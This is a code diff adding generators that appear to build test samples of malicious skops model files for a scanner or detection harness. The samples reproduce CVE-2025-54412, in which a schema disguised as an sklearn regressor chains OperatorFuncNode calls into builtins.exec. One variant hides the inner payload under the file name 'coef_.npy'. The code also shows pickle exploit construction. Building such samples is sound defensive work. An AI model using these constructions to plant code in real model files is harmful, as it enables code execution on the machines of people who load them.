@@ -697,3 +697,57 @@ def _def_timer(out: Path, c: Canary) -> None:
                      [c.py], protocol=4)  # fmt: skip
     start = _pk.call(_pk.stack_global("threading", "Thread.start"), _pk.Raw(timer), protocol=4)
     out.write_bytes(_pk.proto(4) + start + pickle.STOP)
+
+
+# --- skops: OperatorFuncNode calls operator.<name>, whatever module the schema names --------
+
+
+def _node(loader: str, module: str, cls: str, nid: int, **kw: object) -> dict[str, object]:
+    return {"__class__": cls, "__module__": module, "__loader__": loader, "__id__": nid, **kw}
+
+
+def _skops_zip(out: Path | io.BytesIO, schema: dict[str, object], files: dict[str, bytes]) -> None:
+    with zipfile.ZipFile(out, "w") as z:
+        z.writestr("schema.json", json.dumps(schema))
+        for name, data in files.items():
+            z.writestr(name, data)
+
+
+def _skops_operator_call(c: Canary, inner_name: str) -> tuple[dict[str, object], bytes]:
+    """CVE-2025-54412 as published: the outer schema lists an sklearn-looking type and
+    skops.io.loads; operator.call(skops.io.loads, <inner file>, trusted) loads an inner dump
+    whose own OperatorFuncNode calls builtins.exec."""
+    inner = _node("OperatorFuncNode", "sk", "call", 1, attrs=_node(
+        "TupleNode", "builtins", "tuple", 2, content=[
+            _node("TypeNode", "builtins", "exec", 3),
+            _node("JsonNode", "builtins", "str", 4, content=json.dumps(c.py), is_json=True),
+        ]))  # fmt: skip
+    inner.update(protocol=2, _skops_version="0.11.0")
+    buf = io.BytesIO()
+    _skops_zip(buf, inner, {})
+    trusted = [
+        _node("JsonNode", "builtins", "str", nid, content=json.dumps(t), is_json=True)
+        for nid, t in ((7, "builtins.exec"), (11, "sk.call"))
+    ]
+    outer = _node("OperatorFuncNode", "sklearn.linear_model._stochastic_gradient.SGDRegressor",
+                  "call", 10, attrs=_node("TupleNode", "builtins", "tuple", 8, content=[
+                      _node("TypeNode", "skops.io", "loads", 5),
+                      _node("BytesNode", "builtins", "bytes", 6, file=inner_name),
+                      _node("ListNode", "builtins", "list", 9, content=trusted),
+                  ]))  # fmt: skip
+    outer.update(protocol=2, _skops_version="0.11.0")
+    return outer, buf.getvalue()
+
+
+@sample("skops-operator-call-nested", "cve-2025-54412-skops-operatorfunc", loader="skops_load",
+        env="skops011", name="model.skops")  # fmt: skip
+def _skops_op(out: Path, c: Canary) -> None:
+    schema, inner = _skops_operator_call(c, "my-model-evil.skops")
+    _skops_zip(out, schema, {"my-model-evil.skops": inner})
+
+
+@sample("skops-operator-call-npy-name", "cve-2025-54412-skops-operatorfunc",
+        loader="skops_load", env="skops011", name="model.skops")  # fmt: skip
+def _skops_op_npy(out: Path, c: Canary) -> None:
+    schema, inner = _skops_operator_call(c, "coef_.npy")
+    _skops_zip(out, schema, {"coef_.npy": inner})
